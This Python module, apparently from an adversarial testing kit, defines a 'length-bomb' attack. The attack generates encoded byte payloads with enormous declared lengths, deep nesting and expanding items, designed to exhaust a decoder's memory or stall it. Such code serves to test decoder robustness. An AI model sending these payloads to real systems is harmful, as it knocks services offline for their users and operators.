from collections.abc import Sequence

from sapo_adversary.attacks.bomb import Bomb
from sapo_adversary.attacks.forms import ARRAY, BYTES, MAP, TEXT, head
from sapo_adversary.attacks.kit import Kit

CLAIM = 2**40
"""Bytes or items that a head states."""


class LengthBomb(Bomb):
    """A few bytes state, nest or unfold into more items than memory holds, so that their decoder stalls or runs out of
    memory.
    """

    id = "length-bomb"
    layer = "wire"

    def __init__(self, kit: Kit, *, depth: int = 100_000, items: int = 400_000) -> None:
        """`depth` is the depth of nesting, `items` the number of one-byte items that become large objects."""
        super().__init__(kit)
        self._bombs = (
            head(ARRAY, items) + b"\xa0" * items,
            b"\x81" * depth + b"\x80",
            b"\xa1\x60" * depth + b"\xa0",
            b"\x9f" * depth + b"\xff" * depth,
            *(head(major, CLAIM) for major in (BYTES, TEXT, ARRAY, MAP)),
            head(ARRAY, CLAIM) * 8,
        )

    def bombs(self) -> Sequence[bytes]:
        """Many one-byte items, three kinds of nesting, and too great lengths of each type."""
        return self._bombs
